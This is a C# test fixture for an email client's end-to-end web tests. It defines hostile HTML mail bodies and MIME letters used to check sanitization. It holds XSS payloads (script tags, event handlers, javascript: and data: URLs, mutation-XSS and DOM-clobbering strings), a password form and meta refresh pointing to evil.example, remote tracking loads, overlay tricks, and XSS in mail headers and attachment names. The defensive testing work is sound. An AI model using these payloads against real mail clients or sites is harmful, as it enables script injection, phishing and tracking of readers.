using System.Text;

namespace InboxMind.EndToEnd.Web;

/// <summary>HTML of mails that attack who reads them.</summary>
internal static class HostileHtml
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>parent.pwned=1;top.location='https://evil.example/'</script><p>script</p><img src=x onerror='top.pwned=1'>"
            + "<svg onload='top.pwned=1'><script>top.pwned=1</script></svg><body onload='top.pwned=1'>",
        "<p>links</p><a href='javascript:top.pwned=1' autofocus onfocus='top.pwned=1'>js</a><a href=' jAvA\tscript:alert(1)'>js</a>"
            + "<a href='data:text/html,<script>alert(1)</script>'>data</a><a href='vbscript:x'>vb</a><a href='https://example.com/'>ok</a>",
        "<p>form</p><form action='https://evil.example/' method='post'><input name='p' type='password' autofocus><button>Go</button></form>"
            + "<meta http-equiv='refresh' content='0;url=https://evil.example/'><base href='https://evil.example/'>",
        "<p>remote</p><img src='https://evil.example/pixel.gif'><img srcset='https://evil.example/a.png 1x'>"
            + "<link rel='stylesheet' href='https://evil.example/a.css'><style>@import 'https://evil.example/b.css';"
            + "body{background:url(https://evil.example/c.png)}</style><table background='https://evil.example/d.png'><tr><td>x</table>"
            + "<div style=\"background:url('https://evil.example/e.png');content:url(//evil.example/f)\">styled</div>"
            + "<video poster='https://evil.example/g.png' src='https://evil.example/h.mp4'></video><audio src='//evil.example/i'></audio>",
        "<p>over</p><div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red'>cover</div>"
            + "<div style='margin:-999px;transform:scale(99)'>grow</div><iframe src='/api/v1/auth/me'></iframe>"
            + "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/y'>",
        "<p>soup</p><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=top.pwned=1&gt;'></math>"
            + "<noscript><p title='</noscript><img src=x onerror=top.pwned=1>'></noscript><template><script>top.pwned=1</script></template>"
            + "<textarea><img src=x onerror=top.pwned=1></textarea><title></title><xmp><script>top.pwned=1</script></xmp>",
        "<p id='main' name='app'>names</p><form id='app'></form><img name='getElementById'><a id='question' href='#'>clobber</a>",
        $"<p>table</p><table>{string.Concat(Enumerable.Repeat("<tr><td>a<td>b<td>c", 1_500))}</table>",
    ];

    public static byte[] Letter(int number, string html) => Encoding.UTF8.GetBytes(
        $"From: \"<script>top.pwned=1</script>\" <mallory@evil.example>\r\nTo: anna@example.com\r\n"
        + $"Subject: <img src=x onerror=top.pwned=1> number {number}\r\nDate: Mon, {number} Mar 2026 09:00:00 +0000\r\n"
        + $"Message-ID: <hostile-{number}@evil.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        + $"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body>{html}</body></html>\r\n"
        + "--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=\"<img src=x onerror=top.pwned=1>.txt\"\r\n\r\n"
        + $"Text of a file\r\n{html}\r\n--b--\r\n");
}
